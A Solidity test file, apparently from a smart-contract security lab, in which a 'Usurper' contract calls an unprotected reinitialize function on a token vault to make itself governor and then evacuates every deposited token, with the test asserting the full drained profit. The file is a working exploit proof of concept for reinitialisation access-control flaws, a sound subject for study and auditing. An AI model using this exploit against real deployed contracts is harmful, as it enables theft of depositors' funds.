// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Factory} from "../reinitialise/src/Factory.sol";
import {Granary} from "../reinitialise/src/Granary.sol";
import {Token} from "../../shared/Erc20.sol";

interface Vm {
    function startPrank(address sender) external;
    function stopPrank() external;
}

/// Sets the granary up for a third time, and moves the grain to itself.
contract Usurper {
    function run(Granary granary) external {
        granary.reinitialize(granary.version() + 1, address(this), 0);
        granary.evacuate(address(this));
    }
}

contract ReinitialiseTest {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant ALICE = address(0xA11CE);
    address private constant BOB = address(0xB0B);

    event Profit(uint256 grain);

    Token private grain;
    Granary private granary;
    Usurper private usurper;

    function setUp() public {
        grain = new Token("Grain", "GRN");
        granary = Granary(new Factory().create(grain, 20));
        // The factory was called by this contract, so this is the governor.
        granary.reinitialize(2, address(this), 10);
        usurper = new Usurper();
        grain.mint(address(this), 100_000 ether);
        grain.mint(ALICE, 2_400_000 ether);
        grain.mint(BOB, 900_000 ether);
        grain.mint(address(usurper), 5_000 ether);
        grain.approve(address(granary), 1e60);
        vm.startPrank(ALICE);
        grain.approve(address(granary), 1e60);
        granary.store(1_900_000 ether);
        vm.stopPrank();
        vm.startPrank(BOB);
        grain.approve(address(granary), 1e60);
        granary.store(650_000 ether);
        vm.stopPrank();
        granary.gain(61_000 ether);
    }

    function test_attack_pays() public {
        usurper.run(granary);
        uint256 profit = grain.balanceOf(address(usurper)) - 5_000 ether;
        emit Profit(profit);
        require(profit == 2_611_000 ether, "not all");
    }
}
